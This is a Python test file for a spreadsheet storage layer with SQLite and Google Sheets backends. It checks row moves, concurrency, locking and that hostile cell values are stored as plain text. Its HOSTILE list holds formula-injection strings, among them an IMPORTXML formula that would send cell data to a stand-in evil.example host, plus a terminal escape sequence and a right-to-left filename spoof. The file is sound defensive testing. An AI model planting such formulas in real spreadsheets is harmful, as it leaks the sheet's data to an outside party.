"""One contract, two stores: the local SQLite store and the Google store over the Sheets fake."""

from __future__ import annotations

import json
import sqlite3
import stat
import threading
from pathlib import Path

import pytest

from moc_tui.core.sheets.local import LocalSheetStore
from moc_tui.core.sheets.store import (
    RowRef,
    RowsChanged,
    SheetError,
    SheetStore,
    SheetUnavailable,
    TabNotFound,
)
from tests.fixtures.sheets import HEADER, StoreFactory, all_rows, request_row, seed_tabs
from tests.tab_names import ACCESS_DONE, FORM, QUOTA_DONE

HOSTILE = [
    '=HYPERLINK("http://x")',
    '=IMPORTXML("https://evil.example/"&B2,"//a")',
    "+1",
    "-1+2",
    "@SUM(A1)",
    "\t=1+1",
    "'quoted",
    "0123",
    "1e3",
    "TRUE",
    "Eve\x1b]2;PWNED\x07",
    "nul\x00inside",
    "line one\nline two\r\nthree",
    "Bob\u202egnp.exe",
    "\u00a0",
    "adm\u200bin",
    "測試 👩‍👩‍👧",
    "x" * 50_000,
    "lone \udfff surrogate",  # the Sheets API can return lone surrogates (security.md §7)
    "\ud800",
    "bytes kept \udcc0\udcaf\udcff",  # invalid / overlong UTF-8 as a local import stores it
]


def test_read_returns_every_row_of_each_tab(store: SheetStore) -> None:
    assert all_rows(store) == seed_tabs()
    assert store.read_tabs([ACCESS_DONE]) == {ACCESS_DONE: [HEADER]}
    assert store.read_tabs([]) == {}


def test_missing_tab_is_tab_not_found(store: SheetStore) -> None:
    for call in (
        lambda: store.read_tabs([FORM, "Nope"]),
        lambda: store.write_cells("Nope", {(1, 1): "x"}),
        lambda: store.append_rows("Nope", [["x"]]),
        lambda: store.delete_rows("Nope", [2]),
        lambda: store.move_rows(FORM, "Nope", [2], [request_row(1)]),
    ):
        with pytest.raises(TabNotFound) as caught:
            call()
        assert caught.value.tab == "Nope"
    assert all_rows(store) == seed_tabs()


def test_trailing_blanks_are_trimmed_and_inner_blank_rows_kept(store_factory: StoreFactory) -> None:
    store = store_factory({"T": [["a", "", "b", "", ""], [], ["", "c"], ["", ""], []]})
    assert store.read_tabs(["T"]) == {"T": [["a", "", "b"], [], ["", "c"]]}
    store.write_cells("T", {(1, 3): "", (3, 2): ""})
    assert store.read_tabs(["T"]) == {"T": [["a"]]}


def test_write_cells_sets_text_in_one_write(store: SheetStore) -> None:
    store.write_cells(FORM, {(2, 6): "2024-05-02T10:00:00+00:00", (4, 1): "", (5, 8): "z"})
    rows = store.read_tabs([FORM])[FORM]
    assert rows[1] == [*request_row(1), "2024-05-02T10:00:00+00:00"]
    assert rows[3] == ["", *request_row(3)[1:]]
    assert rows[4] == [*request_row(4), "", "", "z"]
    assert rows[2] == request_row(2)


def test_append_goes_after_the_last_row_with_data(store_factory: StoreFactory) -> None:
    store = store_factory({"T": [["h"], ["1"], [], ["3"]]})
    store.append_rows("T", [["4", "x"], ["5"]])
    assert store.read_tabs(["T"])["T"] == [["h"], ["1"], [], ["3"], ["4", "x"], ["5"]]
    store.write_cells("T", {(10, 1): "far"})
    store.append_rows("T", [["after"]])
    assert store.read_tabs(["T"])["T"][9:] == [["far"], ["after"]]


def test_delete_non_contiguous_rows_shifts_the_rest_up(store: SheetStore) -> None:
    store.delete_rows(FORM, [3, 5, 6, 9, 13])
    kept = [n for n in range(1, 13) if n + 1 not in (3, 5, 6, 9, 13)]
    assert store.read_tabs([FORM])[FORM] == [HEADER] + [request_row(n) for n in kept]


def test_a_failing_batch_changes_nothing(store: SheetStore) -> None:
    with pytest.raises(SheetError):
        store.delete_rows(FORM, [2, 5000])  # beyond the 1000-row grid
    with pytest.raises(SheetError):
        store.delete_rows(FORM, list(range(1, 1001)))  # every row of the grid
    with pytest.raises(SheetError, match="exceeds grid limits"):
        store.write_cells(FORM, {(2, 2): "changed", (1001, 1): "x"})
    with pytest.raises(SheetError, match="50000"):
        store.append_rows(ACCESS_DONE, [["ok"], ["x" * 50_001]])
    assert all_rows(store) == seed_tabs()


def test_values_must_be_text(store: SheetStore) -> None:
    with pytest.raises(TypeError):
        store.write_cells(FORM, {(2, 2): 5})  # type: ignore[dict-item]
    with pytest.raises(ValueError, match="start at 1"):
        store.delete_rows(FORM, [0])
    assert all_rows(store) == seed_tabs()


def test_empty_calls_change_nothing(store: SheetStore) -> None:
    store.write_cells(FORM, {})
    store.append_rows(FORM, [])
    store.delete_rows(FORM, [])
    store.move_rows(FORM, ACCESS_DONE, [], [])
    assert all_rows(store) == seed_tabs()


def test_move_non_contiguous_rows_keeps_their_order(store: SheetStore) -> None:
    moved = [2, 4, 5, 9, 13]
    store.move_rows(FORM, ACCESS_DONE, moved, [request_row(r - 1) for r in moved])
    after = all_rows(store)
    assert after[ACCESS_DONE] == [HEADER] + [request_row(r - 1) for r in moved]
    assert after[FORM] == [HEADER] + [request_row(n) for n in range(1, 13) if n + 1 not in moved]


def test_move_with_a_changed_row_moves_nothing(store: SheetStore) -> None:
    store.write_cells(FORM, {(4, 2): "someone@else.example"})  # an edit after our read
    before = all_rows(store)
    expected = [request_row(1), request_row(3), request_row(4)]  # what we read earlier
    with pytest.raises(RowsChanged) as caught:
        store.move_rows(FORM, ACCESS_DONE, [2, 4, 5], expected)
    assert caught.value.rows == [4]
    assert caught.value.tab == FORM
    assert all_rows(store) == before


def test_move_finds_rows_that_shifted_and_moves_exactly_them(store: SheetStore) -> None:
    store.delete_rows(FORM, [2])  # someone removed a row above: positions shifted
    store.move_rows(FORM, ACCESS_DONE, [3, 6], [request_row(2), request_row(5)])
    after = all_rows(store)
    assert after[ACCESS_DONE] == [HEADER, request_row(2), request_row(5)]
    assert after[FORM] == [HEADER] + [request_row(n) for n in range(3, 13) if n != 5]


def test_move_of_a_row_that_is_gone_moves_nothing(store: SheetStore) -> None:
    store.delete_rows(FORM, [3])  # someone deleted the row itself
    before = all_rows(store)
    with pytest.raises(RowsChanged) as caught:
        store.move_rows(FORM, ACCESS_DONE, [2, 3], [request_row(1), request_row(2)])
    assert caught.value.rows == [3]
    assert all_rows(store) == before


def test_a_move_made_twice_is_done_once(store: SheetStore) -> None:
    args = ([2, 5], [request_row(1), request_row(4)], ["key-1", "key-4"])
    store.move_rows(FORM, ACCESS_DONE, *args)
    store.move_rows(FORM, ACCESS_DONE, *args)  # a rerun, a late retry, a second mover
    after = all_rows(store)
    assert after[ACCESS_DONE] == [HEADER, request_row(1), request_row(4)]
    assert after[FORM] == [HEADER] + [request_row(n) for n in range(1, 13) if n not in (1, 4)]


def test_update_rows_follows_a_tagged_row_and_skips_a_gone_one(store: SheetStore) -> None:
    refs = [RowRef(r, f"key-{r}", request_row(r - 1)) for r in (4, 6, 8)]
    assert store.update_rows(FORM, [(ref, {6: "first"}) for ref in refs]) == []
    store.delete_rows(FORM, [2, 6])  # a row above and the second row itself go
    skipped = store.update_rows(FORM, [(ref, {6: "second"}) for ref in refs])
    assert skipped == [6]
    rows = store.read_tabs([FORM])[FORM]
    assert rows[1:] == [
        request_row(n) + (["second"] if n in (3, 7) else [])
        for n in (2, 3, 4, 6, 7, 8, 9, 10, 11, 12)
    ]


def test_update_rows_refuses_an_untagged_row_that_changed(store: SheetStore) -> None:
    store.write_cells(FORM, {(3, 3): "Edited"})
    ref = RowRef(3, "key-3", request_row(2))
    assert store.update_rows(FORM, [(ref, {6: "stamp"})]) == [3]
    assert store.read_tabs([FORM])[FORM][2][5:] == []


def test_move_compares_rows_without_trailing_blanks(store: SheetStore) -> None:
    store.move_rows(FORM, ACCESS_DONE, [2], [[*request_row(1), "", ""]])
    assert store.read_tabs([ACCESS_DONE])[ACCESS_DONE] == [HEADER, request_row(1)]


def test_move_argument_mistakes_are_refused(store: SheetStore) -> None:
    with pytest.raises(ValueError):
        store.move_rows(FORM, ACCESS_DONE, [2, 3], [request_row(1)])
    with pytest.raises(ValueError):
        store.move_rows(FORM, ACCESS_DONE, [2, 2], [request_row(1), request_row(1)])


def test_hostile_values_round_trip_as_text(store_factory: StoreFactory) -> None:
    store = store_factory(seed_tabs(requests=2))
    rows = [["2024-05-01", value, f"note {i}"] for i, value in enumerate(HOSTILE)]
    store.append_rows(FORM, rows)
    first = 4  # header + 2 seeded rows
    assert store.read_tabs([FORM])[FORM][first - 1 :] == rows

    cells = {(first + i, 4): value for i, value in enumerate(reversed(HOSTILE))}
    store.write_cells(FORM, cells)
    expected = [[*row, value] for row, value in zip(rows, reversed(HOSTILE), strict=True)]
    numbers = list(range(first, first + len(HOSTILE)))
    store.move_rows(FORM, ACCESS_DONE, numbers, expected)

    after = all_rows(store)
    assert after[ACCESS_DONE] == [HEADER, *expected]
    assert after[FORM] == [HEADER, request_row(1), request_row(2)]
    if store_factory.kind == "google":
        fake, (key,) = store_factory.fake, store_factory.keys
        assert fake.flagged(key) == []  # only RAW / stringValue writes
        assert {r.value_input_option for r in fake.requests(key)} <= {None, "RAW"}
        assert fake.formula_looking(key)  # ... of values that would be formulas if typed


def test_local_store_survives_reopening_and_is_private(local_store: LocalSheetStore) -> None:
    local_store.move_rows(FORM, ACCESS_DONE, [2], [request_row(1)])
    reopened = LocalSheetStore(local_store.path)
    assert reopened.read_tabs([ACCESS_DONE])[ACCESS_DONE] == [HEADER, request_row(1)]
    assert stat.S_IMODE(local_store.path.stat().st_mode) == 0o600
    assert reopened.tab_titles() == [FORM, ACCESS_DONE]
    assert reopened.ensure_tabs([ACCESS_DONE, QUOTA_DONE]) == [QUOTA_DONE]


def test_local_store_reads_of_a_missing_file_create_nothing(tmp_path: Path) -> None:
    path = tmp_path / "absent.db"
    with pytest.raises(TabNotFound):
        LocalSheetStore(path).read_tabs([FORM])
    assert not path.exists()


def test_local_store_refuses_a_file_that_is_not_a_store(tmp_path: Path) -> None:
    path = tmp_path / "notes.db"
    path.write_text("not sqlite, just text" * 100)
    with pytest.raises(SheetError, match="not a sheet store"):
        LocalSheetStore(path).read_tabs([FORM])


def test_local_store_writers_take_turns(local_store: LocalSheetStore) -> None:
    def writer(name: str) -> None:
        mine = LocalSheetStore(local_store.path)
        for n in range(15):
            mine.append_rows(ACCESS_DONE, [[name, str(n)]])

    threads = [threading.Thread(target=writer, args=(f"w{i}",)) for i in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    rows = local_store.read_tabs([ACCESS_DONE])[ACCESS_DONE][1:]
    assert sorted(map(tuple, rows)) == sorted(
        (f"w{i}", str(n)) for i in range(4) for n in range(15)
    )


def test_local_store_locked_too_long_is_unavailable(local_store: LocalSheetStore) -> None:
    holder = sqlite3.connect(local_store.path, isolation_level=None)
    holder.execute("BEGIN IMMEDIATE")
    try:
        with pytest.raises(SheetUnavailable, match="locked by another process"):
            LocalSheetStore(local_store.path, timeout=0.05).append_rows(ACCESS_DONE, [["x"]])
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    assert local_store.read_tabs([ACCESS_DONE])[ACCESS_DONE] == [HEADER]


def test_old_done_markers_are_dropped_by_a_later_move(
    store: SheetStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Markers only need to outlive a retry or a stale copy; they must not pile up."""
    from moc_tui.core.sheets import rowids

    real = rowids.now
    monkeypatch.setattr(rowids, "now", lambda: real() - 3 * 86_400)
    store.move_rows(FORM, ACCESS_DONE, [2, 3], [request_row(1), request_row(2)], ["a", "b"])
    monkeypatch.setattr(rowids, "now", real)
    store.move_rows(FORM, ACCESS_DONE, [2], [request_row(3)], ["c"])
    # "a" and "b" are no longer known as moved: a copy put back by hand would move again
    store.append_rows(FORM, [request_row(1)])
    last = len(store.read_tabs([FORM])[FORM])
    store.move_rows(FORM, ACCESS_DONE, [last], [request_row(1)], ["a"])
    done = store.read_tabs([ACCESS_DONE])[ACCESS_DONE]
    assert done == [HEADER, request_row(1), request_row(2), request_row(3), request_row(1)]
    store.move_rows(FORM, ACCESS_DONE, [last], [request_row(1)], ["a"])  # fresh: a no-op
    assert store.read_tabs([ACCESS_DONE])[ACCESS_DONE] == done


def test_local_store_made_before_row_tags_is_upgraded_in_place(tmp_path: Path) -> None:
    path = tmp_path / "old.db"
    conn = sqlite3.connect(path)
    conn.execute(
        "CREATE TABLE tabs (sheet_id INTEGER PRIMARY KEY, position INTEGER NOT NULL, "
        "title TEXT NOT NULL UNIQUE, row_count INTEGER NOT NULL, col_count INTEGER NOT NULL, "
        "rows TEXT NOT NULL)"
    )
    rows = json.dumps([HEADER, request_row(1), request_row(2)])
    conn.execute("INSERT INTO tabs VALUES (0, 0, ?, 1000, 26, ?)", (FORM, rows))
    conn.execute(
        "INSERT INTO tabs VALUES (1, 1, ?, 1000, 26, ?)", (ACCESS_DONE, json.dumps([HEADER]))
    )
    conn.execute("PRAGMA user_version=1")
    conn.commit()
    conn.close()
    store = LocalSheetStore(path)
    store.move_rows(FORM, ACCESS_DONE, [3], [request_row(2)], ["k"])
    assert store.read_tabs([ACCESS_DONE])[ACCESS_DONE] == [HEADER, request_row(2)]
    assert sqlite3.connect(path).execute("PRAGMA user_version").fetchone()[0] == 2


def test_a_row_whose_key_changed_by_an_edit_is_still_found(store: SheetStore) -> None:
    """An operator edits the email: the request's key changes, the old tag stays on the row."""
    old = RowRef(3, "key-old", request_row(2))
    assert store.update_rows(FORM, [(old, {2: "new@example.org"})]) == []
    edited = store.read_tabs([FORM])[FORM][2]
    assert edited[1] == "new@example.org"
    assert store.update_rows(FORM, [(RowRef(3, "key-new", edited), {6: "x"})]) == []
    store.move_rows(FORM, ACCESS_DONE, [3], [[*edited, "x"]], ["key-new"])
    assert store.read_tabs([ACCESS_DONE])[ACCESS_DONE] == [HEADER, [*edited, "x"]]
